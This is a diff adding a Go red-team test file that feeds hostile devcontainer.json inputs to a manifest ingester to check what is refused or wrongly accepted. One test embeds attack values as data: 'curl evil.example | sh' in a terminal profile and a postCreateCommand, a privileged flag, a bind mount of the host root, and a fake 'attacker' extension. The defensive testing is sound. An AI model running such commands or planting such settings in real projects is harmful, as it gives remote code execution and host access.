@@ -1,0 +1,220 @@
+package environment
+
+// Red-team tests for environment (branch redteam-image). TestRedteamHolds*
+// are attacks that are refused; TestRedteamFinding* fail while the
+// weakness they show is present.
+
+import (
+	"errors"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/cordon-dev/cordon/evidence/sign"
+)
+
+// TestRedteamFindingSubstitutionOutsideValues: docs/SPEC.md §7.1 says "No
+// string value may hold NUL or ${" (CLAIMS row 100: host-dependent
+// substitution is refused), but only containerEnv/remoteEnv values and
+// workspaceFolder are checked: name and every string in customizations
+// keep ${localEnv:…}, which the devcontainer CLI substitutes in the whole
+// file (customizations included), so one address means different
+// settings on different hosts.
+func TestRedteamFindingSubstitutionOutsideValues(t *testing.T) {
+	for name, src := range map[string]string{
+		"name":                `{"image": "` + img + `", "name": "${localEnv:HOME}"}`,
+		"customizations":      `{"image": "` + img + `", "customizations": {"vscode": {"settings": {"python.defaultInterpreterPath": "${localEnv:HOME}/.venv/bin/python"}}}}`,
+		"customizations-key":  `{"image": "` + img + `", "customizations": {"${localWorkspaceFolder}": 1}}`,
+		"customizations-NUL":  `{"image": "` + img + `", "customizations": {"x": "a\u0000b"}}`,
+		"escaped-in-name":     `{"image": "` + img + `", "name": "$\u007blocalEnv:USER}"}`,
+		"escaped-in-settings": `{"image": "` + img + `", "customizations": {"x": ["$\u007blocalEnv:SSH_AUTH_SOCK}"]}}`,
+	} {
+		t.Run(name, func(t *testing.T) {
+			m, err := Ingest([]byte(src))
+			if err == nil {
+				t.Errorf("accepted: %s", m.JCS())
+			} else {
+				t.Log(err)
+			}
+		})
+	}
+}
+
+// TestRedteamFindingCustomizationsCarryExecution: customizations are
+// carried verbatim and signed into the manifest, and they can hold what
+// an editor runs or installs: VS Code extensions (code that runs in the
+// environment), a terminal profile or tasks, and even copies of the
+// refused members. The package doc and SPEC §7 say the manifest holds
+// "nothing that executes or widens the sandbox". Informational: this
+// test records what passes.
+func TestRedteamFindingCustomizationsCarryExecution(t *testing.T) {
+	src := `{"image": "` + img + `", "customizations": {
+		"vscode": {
+			"extensions": ["attacker.totally-legit"],
+			"settings": {"terminal.integrated.profiles.linux": {"x": {"path": "/bin/sh", "args": ["-c", "curl -s evil.example | sh"]}},
+			             "terminal.integrated.defaultProfile.linux": "x",
+			             "task.allowAutomaticTasks": "on"}
+		},
+		"postCreateCommand": "curl evil.example | sh",
+		"privileged": true,
+		"mounts": ["source=/,target=/host,type=bind"]
+	}}`
+	m, err := Ingest([]byte(src))
+	if err != nil {
+		t.Fatalf("refused: %v", err)
+	}
+	t.Logf("accepted and addressed %s:\n%s", m.ID(), m.JCS())
+	t.Error("customizations carry extensions, terminal commands and refused member names into a signed manifest")
+}
+
+// TestRedteamHoldsMemberSpelling: escapes, duplicates, case, Unicode
+// look-alikes and comment tricks around refused and accepted members.
+func TestRedteamHoldsMemberSpelling(t *testing.T) {
+	for name, src := range map[string]string{
+		"escaped-refused":        `{"image": "` + img + `", "\u0070rivileged": false}`,
+		"escaped-dup-image":      `{"image": "` + img + `", "\u0069mage": "` + img + `"}`,
+		"dup-behind-block":       `{"image": "` + img + `" /* , "image": "x" */, "image": "` + img + `"}`,
+		"case-variant":           `{"image": "` + img + `", "Privileged": true}`,
+		"fullwidth-i":            `{"image": "` + img + `", "ｐrivileged": true}`,
+		"dotless-i-look-alike":   `{"ımage": "` + img + `"}`,
+		"trailing-space-name":    `{"image": "` + img + `", "privileged ": true}`,
+		"nul-in-name":            `{"image": "` + img + `", "privileged\u0000": true}`,
+		"nested-refused-env":     `{"image": "` + img + `", "containerEnv": {"LD_PRELOAD": null}}`,
+		"unterminated-comment":   `{"image": "` + img + `"} /*`,
+		"comment-eats-brace":     `{"image": "` + img + `" // }` + "\n",
+		"bom":                    "\ufeff{\"image\": \"" + img + "\"}",
+		"raw-nul":                "{\"image\": \"" + img + "\"}\x00",
+		"invalid-utf8-in-string": "{\"image\": \"" + img + "\", \"name\": \"\xff\"}",
+		"float":                  `{"image": "` + img + `", "customizations": {"x": 1.5}}`,
+		"big-int":                `{"image": "` + img + `", "customizations": {"x": 9007199254740993}}`,
+		"sub-in-env":             `{"image": "` + img + `", "containerEnv": {"A": "$\u007blocalEnv:HOME}"}}`,
+		"sub-in-workspace":       `{"image": "` + img + `", "workspaceFolder": "/w/${localWorkspaceFolderBasename}"}`,
+		"workspace-dotdot":       `{"image": "` + img + `", "workspaceFolder": "/w/../etc"}`,
+		"env-name-with-eq":       `{"image": "` + img + `", "containerEnv": {"A=B": "1"}}`,
+		"user-with-colon":        `{"image": "` + img + `", "remoteUser": "root:root"}`,
+		"top-array":              `[{"image": "` + img + `"}]`,
+		"customizations-null":    `{"image": "` + img + `", "customizations": null}`,
+	} {
+		t.Run(name, func(t *testing.T) {
+			m, err := Ingest([]byte(src))
+			if err == nil {
+				t.Errorf("accepted: %s", m.JCS())
+				return
+			}
+			if !errors.Is(err, ErrInvalid) && !errors.Is(err, ErrRefused) {
+				t.Errorf("error wraps neither ErrInvalid nor ErrRefused: %v", err)
+			}
+			t.Log(err)
+		})
+	}
+}
+
+// TestRedteamHoldsNonMembers: a refused member inside a comment or a
+// string is not a member.
+func TestRedteamHoldsNonMembers(t *testing.T) {
+	for _, src := range []string{
+		`{"image": "` + img + `", "name": "/* \"privileged\": true */"}`,
+		`{"image": "` + img + `" // , "privileged": true` + "\n}",
+		`{"image": "` + img + `", "name": "a // b"}`,
+	} {
+		m, err := Ingest([]byte(src))
+		if err != nil {
+			t.Errorf("%s: %v", src, err)
+			continue
+		}
+		t.Logf("%s", m.JCS())
+	}
+}
+
+// TestRedteamImageRefs: odd references that pass or fail the pattern.
+func TestRedteamImageRefs(t *testing.T) {
+	hex := strings.Repeat("a", 64)
+	for ref, wantOK := range map[string]bool{
+		"docker.io/library/alpine@sha256:" + hex:                       true,
+		"localhost/x@sha256:" + hex:                                    true,
+		"[::1]:5000/x@sha256:" + hex:                                   true,
+		"EXAMPLE.COM/x@sha256:" + hex:                                  true, // a second spelling of a registry
+		"example.com:99999/x@sha256:" + hex:                            true, // no such port
+		"example.com/x:latest@sha256:" + hex:                           true, // a tag nobody reads
+		"example.com/x@sha512:" + strings.Repeat("b", 128):             true,
+		"alpine@sha256:" + hex:                                         false,
+		"library/alpine@sha256:" + hex:                                 false,
+		"example.com/x@sha256:" + strings.ToUpper(hex):                 false,
+		"example.com/x@sha256:" + hex + "\n":                           false,
+		"example.com/../x@sha256:" + hex:                               false,
+		"example.com/x@sha256:" + hex + "@sha256:" + hex:               false,
+		"example.com/X@sha256:" + hex:                                  false,
+		"example.com//x@sha256:" + hex:                                 false,
+		"example.com/x@md5:" + strings.Repeat("a", 32):                 false,
+		"http://example.com/x@sha256:" + hex:                           false,
+		"example.com/x:" + strings.Repeat("t", 129) + "@sha256:" + hex: false,
+	} {
+		err := checkImage(ref)
+		if (err == nil) != wantOK {
+			t.Errorf("checkImage(%q) = %v, want ok=%v", ref, err, wantOK)
+		}
+	}
+}
+
+// TestRedteamParseNonCanonical: spellings of a manifest other than its
+// JCS form are refused.
+func TestRedteamParseNonCanonical(t *testing.T) {
+	good := `{"image":"` + img + `","name":"a","type":"cordon.env.v1"}`
+	if _, err := Parse([]byte(good)); err != nil {
+		t.Fatal(err)
+	}
+	for name, s := range map[string]string{
+		"escaped-char":    `{"image":"` + img + `","name":"\u0061","type":"cordon.env.v1"}`,
+		"solidus":         `{"image":"` + img + `","name":"a\/","type":"cordon.env.v1"}`,
+		"trailing-nl":     good + "\n",
+		"bom":             "\ufeff" + good,
+		"order":           `{"name":"a","image":"` + img + `","type":"cordon.env.v1"}`,
+		"empty-env":       `{"container_env":{},"image":"` + img + `","name":"a","type":"cordon.env.v1"}`,
+		"empty-name":      `{"image":"` + img + `","name":"","type":"cordon.env.v1"}`,
+		"empty-custom":    `{"customizations":{},"image":"` + img + `","type":"cordon.env.v1"}`,
+		"devcontainer":    `{"image":"` + img + `","privileged":true,"type":"cordon.env.v1"}`,
+		"camel-case":      `{"containerEnv":{"A":"1"},"image":"` + img + `","type":"cordon.env.v1"}`,
+		"type-v2":         `{"image":"` + img + `","type":"cordon.env.v2"}`,
+		"dup":             `{"image":"` + img + `","image":"` + img + `","type":"cordon.env.v1"}`,
+		"custom-unsorted": `{"customizations":{"b":1,"a":2},"image":"` + img + `","type":"cordon.env.v1"}`,
+	} {
+		if _, err := Parse([]byte(s)); err == nil {
+			t.Errorf("%s: Parse accepted %s", name, s)
+		}
+	}
+}
+
+// TestRedteamHoldsSigned: a signed manifest does not open under another
+// key, with another payload type, or with a second bad signature added.
+func TestRedteamHoldsSigned(t *testing.T) {
+	k, _ := sign.Generate()
+	other, _ := sign.Generate()
+	m := mustIngest(t, `{"image": "`+img+`"}`)
+	env := m.Seal(k)
+	if _, err := Open(env, other.Public()); err == nil {
+		t.Error("opened under another key")
+	}
+	if _, err := Open(sign.Seal(k, "application/vnd.cordon.run.v1+json", m.JCS()), k.Public()); err == nil {
+		t.Error("opened with another payload type")
+	}
+	// A valid envelope of a non-canonical payload.
+	if _, err := Open(sign.Seal(k, PayloadType, append(m.JCS(), '\n')), k.Public()); err == nil {
+		t.Error("opened a non-canonical payload")
+	}
+}
+
+// TestRedteamDeepNesting: a 1 MiB devcontainer.json of nested arrays is
+// refused quickly and without a crash.
+func TestRedteamDeepNesting(t *testing.T) {
+	n := (MaxSize - 200) / 2
+	src := `{"image": "` + img + `", "customizations": {"x": ` + strings.Repeat("[", n) + strings.Repeat("]", n) + `}}`
+	start := time.Now()
+	_, err := Ingest([]byte(src)[:min(len(src), MaxSize)])
+	t.Logf("%d-deep: %v in %v", n, err != nil, time.Since(start))
+	if err == nil {
+		t.Error("accepted")
+	}
+	if time.Since(start) > 5*time.Second {
+		t.Error("slow")
+	}
+}
